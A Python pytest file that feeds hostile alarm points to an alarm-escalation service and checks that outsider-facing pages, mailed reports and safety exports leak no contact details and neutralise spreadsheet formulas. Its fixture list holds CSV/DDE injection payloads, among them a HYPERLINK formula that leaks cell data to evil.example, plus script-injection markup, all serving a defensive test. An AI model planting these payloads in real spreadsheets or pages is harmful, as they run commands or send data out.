"""What outsiders read names parties and nothing else (issue 19, point 5).

A week is produced by the real service with hostile alarm points (formula
injections, HTML and script, a very long point, unicode) and parties reached by
phone, e-mail, Telegram and a webhook whose URL carries `?api_key=SECRET`;
sends fail so that their errors, which name the address, are stored. Then
every format an outsider gets is rendered: the purchaser's read-only page, the
weekly summary's HTML, PDF (read with pdftotext) and CSV as they arrive by
mail, the mail's text and HTML parts, and the safety register's exports. None
holds an address, a number, a URL or the key; every CSV cell that a
spreadsheet would read as a formula is neutralised.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess

import pytest
from outside import Mailbox, smtp_server
from report_support import local, report_yaml, run_until, watched_since

from escalator.domain.errors import NotifyError
from escalator.domain.model import Action, AlarmEvent
from escalator.reports import data
from escalator.reports.safety_text import as_csv, as_json, as_text

SECRET_URL = "http://127.0.0.1:9/hook?api_key=SECRET"
POINTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "Kellari – Källare ☃ 火災 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 " + "pitkä " * 80 + "Ü" * 150,
]
# every address the config holds, and parts of them a renderer might keep
ADDRESSES = ["SECRET", "api_key", "127.0.0.1:9", "/hook", "+358401234567", "358401234567",
             "0401234567", "-1001234567890", "1001234567890", "-1009876543210",
             "faults@security.example", "duty@contractor.example", "manager@lehtioja.example",
             "tilaaja@kunta.example", "hallitus@kunta.example", "@kunta.example",
             "security.example", "contractor.example"]
PURCHASER = """  purchaser:
    name: Kunnan tilaaja
    role: viewer
    contact:
      - email: tilaaja@kunta.example
"""


def hostile_yaml(storage: str, port: int) -> str:
    text = report_yaml(storage, f"""
channels:
  email: {{host: 127.0.0.1, port: {port}, security: none,
          from: "Lehtioja alarms <alarms@lehtioja.example>"}}
reports:
  weekly: {{to: [purchaser, hallitus@kunta.example], day: mon, at: "08:00", language: fi}}
""")
    text = text.replace("http://127.0.0.1:9/hook", SECRET_URL)
    text = text.replace("  manager:\n", PURCHASER + "  manager:\n", 1)
    return text.replace("    on_exhausted: [manager]\n", "    on_exhausted: [manager, purchaser]\n")


class Refusing:
    """A channel whose peer refuses some addresses, as a real one does: the stored error
    then reads "<channel> <address>: <why>"."""

    def __init__(self, recorder, refused: tuple[str, ...], why: str) -> None:
        self.recorder, self.refused, self.why = recorder, refused, why

    async def send(self, contact, message) -> None:
        if contact.address in self.refused or not self.refused:
            raise NotifyError(f"{self.why} {contact.address}", recoverable=False)
        await self.recorder.send(contact, message)


def assert_minimal(where: str, text: str, *, html: bool = False) -> None:
    for address in ADDRESSES:
        assert address not in text, f"{where} shows {address!r}"
    if html:  # the point is shown, as text
        for markup in ("<script>alert", "<img src=x", "onerror=alert(1)>"):
            assert markup not in text, f"{where} carries {markup!r}"


def assert_neutral(where: str, text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1, where
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (where, value)
    assert_minimal(where, text)


@pytest.fixture
def mailbox():
    return Mailbox()


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs pdftotext (poppler-utils)")
async def test_every_format_names_parties_only_and_neutralises_formulas(
        make_app, clock, recorder, mailbox, aiohttp_client, tmp_path):
    async with smtp_server(mailbox, auth_require_tls=False) as port:
        storage = f"sqlite:///{tmp_path}/m.db"
        text = hostile_yaml(storage, port)
        await watched_since(storage, local(2026, 11, 1, 0))  # so the week is mailed
        assert SECRET_URL in text and "+358401234567" in text
        notifiers = {"telegram": Refusing(recorder, (), "chat not found for"),
                     "sms": Refusing(recorder, (), "gateway refused"),
                     "webhook": Refusing(recorder, (), "webhook answered HTTP 500 at"),
                     "email": Refusing(recorder, ("faults@security.example",),
                                       "mailbox full:")}
        app = await make_app(text, notifiers=notifiers)
        for i, point in enumerate(POINTS):
            clock.set(local(2026, 11, 24, 9, 2 * i))
            await app.service.ingest(AlarmEvent(source="terminal", code="FT", state="alarm",
                                                received_at=clock.now(), point=point))
            await app.tick()
        # the ladder is walked to its end: the ward's chat, the vendor's mail and SMS and
        # the maintenance webhook all fail; the manager and the purchaser are told
        await run_until(app, clock, local(2026, 11, 24, 18))
        errors = await app.store.transaction(lambda tx: [
            d.error or "" for i in range(1, len(POINTS) + 1) for d in tx.deliveries.of_incident(i)])
        stored = " ".join(errors)
        for address in ("SECRET", "+358401234567", "-1001234567890"):
            assert address in stored, address  # the hostile case really happened

        # the purchaser's read-only page, for every alarm
        client = await aiohttp_client(app.web_app())
        links = {m.incident.id: m.ack_url for m in recorder.to("purchaser")}
        assert len(links) == len(POINTS)
        for incident_id, url in links.items():
            resp = await client.get(url.removeprefix("http://escalator.test"))
            page = await resp.text()
            assert resp.status == 200 and "Vain luku" in page
            assert_minimal(f"viewer page {incident_id}", page, html=True)
            assert "Security company fault hotline" in page and "Property maintenance" in page
            assert "EI PERILLÄ" in page  # the failures are there, in words
            (tmp_path / f"viewer-{incident_id}.html").write_text(page, encoding="utf-8")

        # an outside company's own page: the timeline names who failed, never where
        contractor = recorder.to("contractor")[-1]
        page = await (await client.get(contractor.ack_url.removeprefix("http://escalator.test")
                                       )).text()
        assert_minimal("contractor's page", page, html=True)
        assert "Property maintenance – Viestiä ei saatu perille" in page

        # the safety register's exports (the text is what a nurse pastes into HaiPro)
        config = app.config
        views = await app.store.transaction(lambda tx: data.views(
            tx, tx.register.safety_page(limit=1000), data.care_staff(config), clock.now()))
        assert {v.safety.cause for v in views} >= {"delivery_failed", "nobody_acknowledged"}
        names = {pid: p.name for pid, p in config.parties.items()}
        assert_neutral("safety CSV", as_csv(views, "fi", "Europe/Helsinki"))
        assert_minimal("safety JSON", json.dumps([as_json(v, "fi", names) for v in views],
                                                 ensure_ascii=False))
        for v in views:
            assert_minimal("safety text", as_text(v, "fi", "Europe/Helsinki", names))

        # the weekly summary as it arrives by mail (the alarms resolved first: a week of
        # hourly re-walks would only slow the test)
        for incident_id in links:
            await app.service.act(incident_id, Action.RESOLVE, "Facility manager",
                                  party="manager")
        await run_until(app, clock, local(2026, 11, 30, 8))
        [mail] = [m for m in mailbox.mails if "2026-W48" in str(m["Subject"])]
        assert mailbox.envelopes[-1][1] == ["tilaaja@kunta.example", "hallitus@kunta.example"]
        assert_minimal("mail headers", "\n".join(f"{k}: {v}" for k, v in mail.items()))
        got = {}
        for part in mail.walk():
            if not part.is_multipart():
                got[part.get_filename() or part.get_content_type()] = part.get_content()
        assert_minimal("mail text", got["text/plain"])
        html = got["text/html"]
        assert_minimal("report HTML", html, html=True)
        assert "Security company fault hotline" in html and "&lt;script&gt;" in html
        pdf = tmp_path / "w.pdf"
        pdf.write_bytes(got["lehtioja-2026-W48.pdf"])
        out = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                             text=True, check=True, timeout=60).stdout
        assert_minimal("report PDF", out)
        assert "Property maintenance" in out
        report_csv = got["lehtioja-2026-W48.csv"]
        assert_neutral("report CSV", report_csv)
        points = {r["point"] for r in csv.DictReader(io.StringIO(report_csv))}
        assert "'-2+3+cmd|' /C calc'!A0" in points  # kept, readable, and inert
        assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in points
